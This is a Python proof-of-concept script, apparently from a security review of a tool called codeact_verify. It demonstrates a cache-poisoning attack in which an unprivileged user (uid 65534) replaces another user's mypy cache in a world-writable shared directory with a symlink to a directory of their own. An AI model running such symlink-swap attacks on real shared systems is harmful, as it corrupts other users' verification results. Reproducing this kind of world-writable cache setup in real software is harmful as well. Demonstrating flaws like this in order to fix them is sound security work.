# red5/15: see 15_cache_dir_swapped_by_another_user.md (run as root; uid 65534 plays the other user)
# ruff: noqa
# red5/15 demo: run as root with the venv's python; the attacker is uid 65534 (nobody).
import os, shutil, subprocess, sys, tempfile
from pathlib import Path
from codeact_verify import mypy_cache, typecheck
from codeact_verify.tools import load_tools_file, tool_specs
from codeact_verify.verifier import verify

d = Path(tempfile.mkdtemp())
d.chmod(0o755)
(d / "tools.py").write_text('def get_weather(city: str) -> float:\n    """T."""\n    return 1.0\n')
(d / "prog.py").write_text('w = get_weather(city="Oslo")\nprint(w["temp"])\n')
team = d / "team"  # a shared cache root: writable by the team (here: by everyone)
team.mkdir()
team.chmod(0o777)
os.environ["CODEACT_VERIFY_CACHE"] = str(team)
os.environ.pop("CODEACT_VERIFY_MYPY_CACHE", None)
os.environ["CODEACT_VERIFY_DAEMON"] = "off"
specs = tool_specs(load_tools_file(d / "tools.py"))

def run(label):
    r = verify((d / "prog.py").read_bytes(), specs)
    w = typecheck._worker
    print(f"{label}: errors={[x.code for x in r.diagnostics if x.severity == 'error']} "
          f"cache={w.cache} state={w.cache_state!r}")

run("victim, first worker")
# the attacker (nobody) builds an entry of their own and swaps the victim's directory for it
# (built here with the same software, then handed to uid 65534: nobody cannot run this venv)
subprocess.run([sys.executable, "-m", "codeact_verify", "check", "prog.py", "--tools", "tools.py"],
               cwd=d, env=dict(os.environ, CODEACT_VERIFY_MYPY_CACHE=str(team / "evil")),
               capture_output=True)
subprocess.run(["chown", "-R", "65534:65534", str(team / "evil")], check=True)
subprocess.run(["chmod", "-R", "a+rwX", str(team / "evil")], check=True)
attacker = f"""
set -e
mv {team}/mypy-cache {team}/old
ln -s {team}/evil {team}/mypy-cache
"""
subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", attacker],
               check=True)
print("host check of the directory now:", mypy_cache.cache_dir())
typecheck._reset_engine()  # a worker restart (after a CV799 time-out, a crash, ...)
run("victim, next worker")
for p in sorted((team / "evil").iterdir()):
    print("  attacker's dir:", p.name, "uid", p.stat().st_uid, oct(p.stat().st_mode & 0o777))
subprocess.run(["ls", "-laR", str(team)], stdout=open("/tmp/r5/ls.txt", "w"))
shutil.rmtree(d, ignore_errors=True)
